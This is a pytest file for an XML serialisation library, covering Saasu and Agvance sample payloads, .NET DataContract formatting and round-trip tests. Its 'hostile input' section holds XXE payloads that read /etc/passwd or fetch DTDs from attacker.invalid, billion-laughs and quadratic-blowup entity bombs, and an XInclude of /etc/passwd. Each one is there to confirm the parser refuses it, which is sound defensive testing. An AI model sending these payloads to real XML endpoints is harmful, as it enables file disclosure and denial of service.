"""XML: the Saasu sample reproduced, the Agvance sample read, DataContract rules, hostile input."""

from __future__ import annotations

import json
import time
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import ClassVar
from xml.dom import minidom
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from finbatch.formats import xmlwire
from finbatch.formats.xmlwire import XmlWireError

DATA = Path(__file__).parent / "data"
SSI = xmlwire.datacontract_namespace("SSI.API")


def shape(xml: str | bytes) -> tuple:
    """Element tree, order, attributes (namespace declarations included) and text, ignoring only
    the indentation between elements. Test data is trusted, so minidom is fine here."""
    def walk(node: minidom.Element) -> tuple:
        children = [c for c in node.childNodes if c.nodeType == c.ELEMENT_NODE]
        text = "".join(c.data for c in node.childNodes if c.nodeType == c.TEXT_NODE)
        return (node.tagName, dict(node.attributes.items()), text.strip() if children else text,
                [walk(c) for c in children])
    return walk(minidom.parseString(xml).documentElement)


# ------------------------------------------------------------------------- Saasu (seed 002)

SAASU = {"root": "PaymentTransactionSummaryResponse",
         "item_names": {"_links": "Link", "PaymentTransactions": "PaymentTransactionSummary"},
         "omit_nulls": {"title"}, "first": ["_links"]}


def saasu_data() -> dict:
    return json.loads((DATA / "saasu_payments.json").read_text(), parse_float=Decimal)


def test_saasu_sample_reproduced_exactly():
    expected = (DATA / "saasu_payments.xml").read_text().rstrip("\n")
    written = xmlwire.write_xmlserializer(SAASU["root"], saasu_data(), item_names=SAASU["item_names"],
                                          omit_nulls=SAASU["omit_nulls"], first=SAASU["first"], pretty=True)
    assert shape(written) == shape(expected)
    assert written.decode("utf-8") == expected


def test_saasu_compact_output_has_the_same_structure():
    written = xmlwire.write_xmlserializer(SAASU["root"], saasu_data(), item_names=SAASU["item_names"],
                                          omit_nulls=SAASU["omit_nulls"], first=SAASU["first"])
    assert b"\n" not in written and b"  " not in written.replace(b"Payment Test", b"")
    assert shape(written) == shape((DATA / "saasu_payments.xml").read_text())


@dataclass
class Link:
    rel: str
    href: str
    method: str = "GET"
    title: str | None = None


@dataclass
class PaymentTransactionSummary:
    TransactionId: int
    TransactionDate: datetime
    TransactionType: str
    PaymentAccountId: int
    TotalAmount: Decimal
    FeeAmount: Decimal
    Summary: str | None
    Reference: str | None
    ClearedDate: datetime | None
    Currency: str
    AutoPopulateFxRate: bool
    FxRate: Decimal
    CreatedDateUtc: datetime
    LastModifiedDateUtc: datetime
    LastUpdatedId: str
    RequiresFollowUp: bool
    links: list[Link] = field(default_factory=list, metadata={"wire": "_links"})


@dataclass
class PaymentTransactionSummaryResponse:
    PaymentTransactions: list[PaymentTransactionSummary]
    links: list[Link] = field(default_factory=list, metadata={"wire": "_links"})


def test_saasu_sample_from_typed_dtos():
    """Items are named after their DTO type; dates come from aware datetimes (Python keeps 6 of the
    7 fractional digits, so the sample's 7th digit 6 becomes 0)."""
    response = PaymentTransactionSummaryResponse(
        PaymentTransactions=[PaymentTransactionSummary(
            6, datetime(2024, 3, 21, 13, tzinfo=UTC), "SP", 1387, Decimal("100.0"), Decimal("10.0"),
            "Payment Test", None, None, "AUD", False, Decimal("0.0"),
            datetime(2024, 3, 21, 18, 0, 7, 361258, tzinfo=UTC), datetime(2024, 3, 28, 18, 0, 7, 361258, tzinfo=UTC),
            "ASSAAACYUZ=", False, [Link("detail", "https://api.saasu.com/Payment/6?FileId=123")])],
        links=[Link("self", "https://api.saasu.com/Payments?FileId=123"),
               Link("next", "https://api.saasu.com/Payments?FileId=123&Page=2&PageSize=25")])
    written = xmlwire.write_xmlserializer(SAASU["root"], response, omit_nulls={"title"}, first=["_links"], pretty=True)
    expected = (DATA / "saasu_payments.xml").read_text().rstrip("\n").replace(".3612586Z", ".3612580Z")
    assert written.decode() == expected


def test_xmlserializer_nulls_and_scalar_lists():
    written = xmlwire.write_xmlserializer("R", {"Ids": [1, 2], "Names": ["a"], "None": None, "Gone": None,
                                                "Empty": [], "Flag": True}, omit_nulls={"Gone"})
    assert written == (b'<R xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
                       b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><Ids><int>1</int><int>2</int></Ids>'
                       b'<Names><string>a</string></Names><None xsi:nil="true" /><Empty /><Flag>true</Flag></R>')


# ----------------------------------------------------------------------- Agvance (seed 004)

AGVANCE_ITEM = {
    "customerId": "sample string 1", "endInvoiceNumber": "14", "fiscalEndMonth": "8", "fiscalStartMonth": "7",
    "invoiceEndDate": "sample string 6", "invoiceStartDate": "sample string 5", "locationId": "sample string 2",
    "paidStatus": "sample string 9", "startInvoiceNumber": "13", "transactionEndDate": "sample string 4",
    "transactionStartDate": "sample string 3", "voidEndDate": "sample string 12", "voidOnly": "true",
    "voidStartDate": "sample string 11",
}


def test_agvance_request_sample_is_read_into_plain_dicts():
    tree = xmlwire.read_datacontract((DATA / "agvance_invoice_list_request.xml").read_bytes(),
                                     lists={"InvoiceListRequestItems"}, root="InvoiceListRequest")
    assert tree == {"InvoiceListRequestItems": [AGVANCE_ITEM, AGVANCE_ITEM]}


@dataclass
class ClsInvoiceListRequestItem:
    __wire_name__: ClassVar[str] = "clsInvoiceListRequestItem"
    customerId: str | None = None  # noqa: N815 - Agvance's wire names
    locationId: str | None = None  # noqa: N815
    transactionStartDate: str | None = None  # noqa: N815
    transactionEndDate: str | None = None  # noqa: N815
    invoiceStartDate: str | None = None  # noqa: N815
    invoiceEndDate: str | None = None  # noqa: N815
    fiscalStartMonth: int | None = None  # noqa: N815
    fiscalEndMonth: int | None = None  # noqa: N815
    paidStatus: str | None = None  # noqa: N815
    voidOnly: bool = False  # noqa: N815
    voidStartDate: str | None = None  # noqa: N815
    voidEndDate: str | None = None  # noqa: N815
    startInvoiceNumber: int | None = None  # noqa: N815
    endInvoiceNumber: int | None = None  # noqa: N815


@dataclass
class ClsInvoiceListRequest:
    __wire_name__: ClassVar[str] = "InvoiceListRequest"
    InvoiceListRequestItems: list[ClsInvoiceListRequestItem] = field(default_factory=list)


def test_agvance_request_sample_into_typed_dtos():
    request = xmlwire.read_model((DATA / "agvance_invoice_list_request.xml").read_bytes(), ClsInvoiceListRequest,
                                 root="InvoiceListRequest")
    item = request.InvoiceListRequestItems[0]
    assert len(request.InvoiceListRequestItems) == 2
    assert (item.customerId, item.fiscalStartMonth, item.voidOnly, item.endInvoiceNumber) == \
        ("sample string 1", 7, True, 14)


def test_agvance_request_written_in_datacontract_style_matches_the_sample():
    request = xmlwire.read_model((DATA / "agvance_invoice_list_request.xml").read_bytes(), ClsInvoiceListRequest)
    written = xmlwire.write_datacontract("InvoiceListRequest", request, namespace=SSI, pretty=True)
    assert shape(written) == shape((DATA / "agvance_invoice_list_request.xml").read_text())
    # and the plain-dict form, with the item name given
    tree = {"InvoiceListRequestItems": [dict(reversed(AGVANCE_ITEM.items()))] * 2}
    written = xmlwire.write_datacontract("InvoiceListRequest", tree, namespace=SSI,
                                         item_names={"InvoiceListRequestItems": "clsInvoiceListRequestItem"})
    assert shape(written) == shape((DATA / "agvance_invoice_list_request.xml").read_text())


@dataclass
class Inner:
    Values: list[int] | None = None


@dataclass
class Outer:
    Items: list[Inner] = field(default_factory=list)
    Lookup: dict[str, Inner] = field(default_factory=dict)


def test_read_model_finds_nested_and_optional_lists():
    assert xmlwire.list_fields(Outer) == {"Items", "Values"}
    outer = xmlwire.read_model("<Outer><Items><Inner><Values><int>1</int></Values></Inner></Items></Outer>", Outer)
    assert outer == Outer([Inner([1])])


# -------------------------------------------------------------------------- DataContract rules

class Paid(Enum):
    Paid = 1
    Unpaid = 2


@dataclass
class ClsApiInvoice:
    __wire_name__: ClassVar[str] = "clsAPIInvoice"
    InvoiceNumber: str
    InvoiceDate: str
    InvoiceRecordHeaderDetails: dict | None = None
    InvoiceRecordSplitDetails: list = field(default_factory=list)


def test_datacontract_response_document():
    response = {"Status": "Success", "Message": "", "Count": "1",
                "InvoiceRecords": [ClsApiInvoice("CM-1", "03/21/2024")]}
    written = xmlwire.write_datacontract("AgvInvoice", response, namespace=SSI, pretty=True, declaration=True)
    assert written.decode() == """<?xml version="1.0" encoding="utf-8"?>
<AgvInvoice xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns="http://schemas.datacontract.org/2004/07/SSI.API">
  <Count>1</Count>
  <InvoiceRecords>
    <clsAPIInvoice>
      <InvoiceDate>03/21/2024</InvoiceDate>
      <InvoiceNumber>CM-1</InvoiceNumber>
      <InvoiceRecordHeaderDetails i:nil="true" />
      <InvoiceRecordSplitDetails />
    </clsAPIInvoice>
  </InvoiceRecords>
  <Message />
  <Status>Success</Status>
</AgvInvoice>"""
    back = xmlwire.read_datacontract(written, lists={"InvoiceRecords", "InvoiceRecordSplitDetails"}, root="AgvInvoice")
    assert back == {"Count": "1", "InvoiceRecords": [{"InvoiceDate": "03/21/2024", "InvoiceNumber": "CM-1",
                                                      "InvoiceRecordHeaderDetails": None,
                                                      "InvoiceRecordSplitDetails": []}],
                    "Message": "", "Status": "Success"}


def test_datacontract_members_sort_ordinally_and_scalars_follow_dotnet():
    written = xmlwire.write_datacontract("R", {
        "b": True, "B": False, "a": Decimal("100.00"), "Z": 12, "When": datetime.min,
        "At": datetime(2025, 10, 24, 2, 59, 37, 695953, tzinfo=UTC), "Id": uuid.UUID(int=1), "Kind": Paid.Unpaid,
        "Tags": ["x", None], "Text": "a & b < c > d\r\n\"q\"", "Bad": "nul\x00 bell\x07",
    }, namespace="urn:t", tz="America/New_York")
    assert written.decode() == (
        '<R xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns="urn:t">'
        "<At>2025-10-23T22:59:37.6959530-04:00</At><B>false</B><Bad>nul\ufffd bell\ufffd</Bad>"
        "<Id>00000000-0000-0000-0000-000000000001</Id><Kind>Unpaid</Kind>"
        '<Tags xmlns:d2p1="http://schemas.microsoft.com/2003/10/Serialization/Arrays">'
        '<d2p1:string>x</d2p1:string><d2p1:string i:nil="true" /></Tags>'
        '<Text>a &amp; b &lt; c &gt; d&#xD;\n"q"</Text><When>0001-01-01T00:00:00.0000000</When>'
        "<Z>12</Z><a>100</a><b>true</b></R>")
    # CR survives a reader's newline normalisation
    assert xmlwire.read_datacontract(written, lists={"Tags"})["Text"] == "a & b < c > d\r\n\"q\""


def test_writer_refusals():
    with pytest.raises(ValueError, match="item_names"):
        xmlwire.write_datacontract("R", {"Rows": [{"A": 1}]}, namespace="urn:t")
    with pytest.raises(ValueError, match="not a valid XML element name"):
        xmlwire.write_datacontract("R", {"bad name": 1}, namespace="urn:t")
    with pytest.raises(TypeError, match="float"):
        xmlwire.write_xmlserializer("R", {"Amount": 1.5})
    with pytest.raises(TypeError, match="lists"):
        xmlwire.write_xmlserializer("R", {"Grid": [[1]]})


# ------------------------------------------------------------------------------------ reading

def test_reader_strips_namespaces_and_reads_nil():
    tree = xmlwire.read_datacontract(
        '<a:R xmlns:a="urn:x" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<a:N xsi:nil="true"/><a:E/><a:T> spaced </a:T><a:O><a:P>1</a:P></a:O></a:R>')
    assert tree == {"N": None, "E": "", "T": " spaced ", "O": {"P": "1"}}


def test_reader_shape_errors():
    with pytest.raises(XmlWireError, match="expected the root element <InvoiceListRequest>, found <Other>"):
        xmlwire.read_datacontract("<Other/>", root="InvoiceListRequest")
    with pytest.raises(XmlWireError, match="<Item> repeats inside R") as caught:
        xmlwire.read_datacontract("<R><Item>1</Item><Item>2</Item></R>")
    assert caught.value.path == "R.Item"
    with pytest.raises(XmlWireError, match="holds text"):
        xmlwire.read_datacontract("<R>text</R>")
    assert xmlwire.read_datacontract("<R/>") == {}


def test_read_model_reports_the_field():
    with pytest.raises(XmlWireError, match="InvoiceListRequestItems\\[0\\].fiscalStartMonth") as caught:
        xmlwire.read_model("<InvoiceListRequest><InvoiceListRequestItems><x><fiscalStartMonth>July"
                           "</fiscalStartMonth></x></InvoiceListRequestItems></InvoiceListRequest>",
                           ClsInvoiceListRequest)
    assert caught.value.status == 400


# ------------------------------------------------------------------------------ hostile input

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<r/>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.invalid/r.dtd">
<r/>"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""
QUADRATIC_BLOWUP = '<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]><r>' + "&a;" * 1000 + "</r>"
PLAIN_DOCTYPE = "<!DOCTYPE r><r/>"


@pytest.mark.parametrize("document", [XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, BILLION_LAUGHS, QUADRATIC_BLOWUP,
                                      PLAIN_DOCTYPE])
def test_dtds_entities_and_external_references_are_refused(document):
    started = time.perf_counter()
    with pytest.raises(XmlWireError, match="DOCTYPE|entity|external"):
        xmlwire.parse(document)
    with pytest.raises(XmlWireError):
        xmlwire.read_datacontract(document.encode())
    assert time.perf_counter() - started < 1


def test_undeclared_entities_are_not_well_formed():
    with pytest.raises(XmlWireError, match="undefined entity") as caught:
        xmlwire.parse("<r>&xxe;</r>")
    assert (caught.value.line, caught.value.column) == (1, 3)


def test_xinclude_is_not_processed():
    tree = xmlwire.read_datacontract('<r xmlns:xi="http://www.w3.org/2001/XInclude">'
                                     '<xi:include href="file:///etc/passwd" parse="text"/></r>')
    assert tree == {"include": ""}


def test_size_limit():
    with pytest.raises(XmlWireError, match="larger than 100 bytes"):
        xmlwire.parse("<r>" + "x" * 100 + "</r>", max_bytes=100)
    with pytest.raises(XmlWireError, match="larger than"):
        xmlwire.read_datacontract(b"<r>" + b"x" * xmlwire.MAX_BYTES + b"</r>")


def test_depth_limit():
    assert xmlwire.parse("<a>" * 64 + "</a>" * 64) is not None
    with pytest.raises(XmlWireError, match="nested deeper than 64") as caught:
        xmlwire.parse("<a>" * 65 + "</a>" * 65)
    assert caught.value.line == 1
    started = time.perf_counter()
    with pytest.raises(XmlWireError, match="nested deeper than 64"):
        xmlwire.parse("<a>" * 200_000)  # refused at level 65, not after reading 200k levels
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(("document", "line", "column"), [
    ("", 1, 0),
    ("<r>", 1, 3),
    ("<r>\n<a></b>\n</r>", 2, 5),
    ("<r/><s/>", 1, 4),
    (b"<r>\xff</r>", 1, 3),
    ("not xml", 1, 0),
])
def test_malformed_xml_reports_line_and_column(document, line, column):
    with pytest.raises(XmlWireError, match="not well-formed") as caught:
        xmlwire.parse(document)
    assert (caught.value.line, caught.value.column) == (line, column)
    assert caught.value.status == 400


def test_encodings():
    assert xmlwire.read_datacontract("<r><a>é</a></r>".encode()) == {"a": "é"}
    assert xmlwire.read_datacontract("\ufeff<r><a>é</a></r>".encode()) == {"a": "é"}
    utf16 = '<?xml version="1.0" encoding="utf-16"?><r><a>é</a></r>'.encode("utf-16")
    assert xmlwire.read_datacontract(utf16) == {"a": "é"}


# ----------------------------------------------------------------------- round trip (property)

xml_texts = st.one_of(
    st.text(alphabet=st.sampled_from(list(" \t\r\n<>&\"';:,{}[]aZ0é")), max_size=10),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cn")), max_size=8))


@dataclass
class Row:
    Text: str
    Amount: Decimal
    Tags: list[str] = field(default_factory=list)


@dataclass
class Sheet:
    Name: str
    Count: int
    Flag: bool
    When: datetime
    Id: uuid.UUID
    Kind: Paid
    Note: str | None = None
    Rows: list[Row] = field(default_factory=list)
    Numbers: list[int] = field(default_factory=list)


sheets = st.builds(
    Sheet, Name=xml_texts, Count=st.integers(-2**63, 2**63 - 1), Flag=st.booleans(),
    When=st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1),
                      timezones=st.just(ZoneInfo("America/New_York")), allow_imaginary=False),
    Id=st.uuids(), Kind=st.sampled_from(Paid), Note=st.none() | xml_texts,
    Rows=st.lists(st.builds(Row, Text=xml_texts,
                            Amount=st.decimals(min_value=-10**12, max_value=10**12, places=6),
                            Tags=st.lists(xml_texts, max_size=3)), max_size=3),
    Numbers=st.lists(st.integers(-1000, 1000), max_size=3))


@settings(max_examples=150)
@given(sheets, st.booleans())
def test_write_then_read_gives_the_same_dto(sheet, pretty):
    tz = "America/New_York"
    contract = xmlwire.write_datacontract("Sheet", sheet, namespace=SSI, tz=tz, pretty=pretty)
    assert xmlwire.read_model(contract, Sheet, root="Sheet", tz=tz) == sheet
    serializer = xmlwire.write_xmlserializer("Sheet", sheet, tz=tz, pretty=pretty)
    assert xmlwire.read_model(serializer, Sheet, root="Sheet", tz=tz) == sheet
